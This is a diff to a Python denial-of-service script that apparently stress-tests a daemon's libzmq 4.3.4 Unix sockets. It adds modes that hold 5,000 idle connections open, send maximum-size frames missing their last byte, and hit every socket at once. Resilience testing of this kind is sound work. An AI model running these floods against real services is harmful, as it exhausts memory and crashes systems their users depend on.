@@ -1,4 +1,5 @@
-"""Peers that mean ill, byte by byte: python3 attack.py KIND ENDPOINT SECONDS, for a socket in the file system.
+"""Peers that mean ill, byte by byte: python3 attack.py KIND ENDPOINT SECONDS, for a socket in the file system, or for `all` the folder of
+the daemon's sockets.
 
 Each kind is one way in which libzmq 4.3.4 by itself takes memory without a bound, or ends its process. The last line that is printed
 says how often a connection was made anew, and how much was sent.
@@ -27,12 +28,12 @@ def frame(body, more=True):
     return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
 
 
-def connect(kind=b"DEALER"):
+def connect(kind=b"DEALER", path=PATH):
     """A connection on which the handshake is done: the greeting, and READY (ZMTP 3.1 without security)."""
     peer = socket.socket(socket.AF_UNIX)
     peer.settimeout(2)
     try:
-        peer.connect(PATH)
+        peer.connect(path)
         peer.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32))
         peer.sendall(command(b"READY", b"\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind))
     except OSError:
@@ -93,6 +94,70 @@ def endless():
             peer.close()
 
 
+def crowd():
+    """Five thousand connections that greet, and stay."""
+    peers = []
+    while time.monotonic() < END:
+        if len(peers) == 5000:
+            time.sleep(0.05)
+            continue
+        try:
+            peers.append(connect(b"SUB" if PATH.endswith("updates.sock") else b"DEALER"))
+        except OSError:
+            time.sleep(0.001)
+
+
+# What the largest frame of each socket may take, in bytes.
+SOCKETS = {
+    "submit.sock": 16 << 20,
+    "query.sock": 64 << 10,
+    "updates.sock": 4096,
+    "workers/jobs.sock": 16 << 20,
+    "workers/batches.sock": 32 << 20,
+}
+
+
+def unfinished(path, size):
+    """Forty connections to one socket, each with a frame that lacks its last byte; again whenever they are ended."""
+    kind = b"SUB" if path.endswith("updates.sock") else b"DEALER"
+    left = {}
+    while time.monotonic() < END:
+        is_idle = True
+        while len(left) < 40:
+            try:
+                peer = connect(kind, path)
+                peer.sendall(b"\x02" + struct.pack(">Q", size))
+            except OSError:
+                break
+            peer.setblocking(False)
+            left[peer] = size - 1
+        for peer, rest in list(left.items()):
+            if rest == 0:
+                continue
+            try:
+                sent = peer.send(bytes(min(rest, 1 << 16)))
+            except BlockingIOError:
+                continue
+            except OSError:
+                peer.close()
+                del left[peer]
+                continue
+            is_idle = False
+            left[peer] = rest - sent
+            count["bytes"] += sent
+        if is_idle:
+            time.sleep(0.01)
+
+
+def everywhere():
+    """All sockets at once."""
+    parts = [threading.Thread(target=unfinished, args=(f"{PATH}/{name}", size)) for name, size in SOCKETS.items()]
+    for part in parts:
+        part.start()
+    for part in parts:
+        part.join()
+
+
 def rubbish():
     """Bytes that are not even a greeting."""
     while time.monotonic() < END:
@@ -130,6 +195,8 @@ kinds = {
     "subscriptions": lambda: flood((b"", lambda: frame(b"\x01" + os.urandom(2000), False)), b"SUB"),
     "heartbeats": heartbeats,
     "rubbish": rubbish,
+    "crowd": crowd,
+    "all": everywhere,
 }
 threads = [threading.Thread(target=kinds[KIND]) for _ in range(4 if KIND in ("frames", "slow") else 1)]
 for thread in threads:
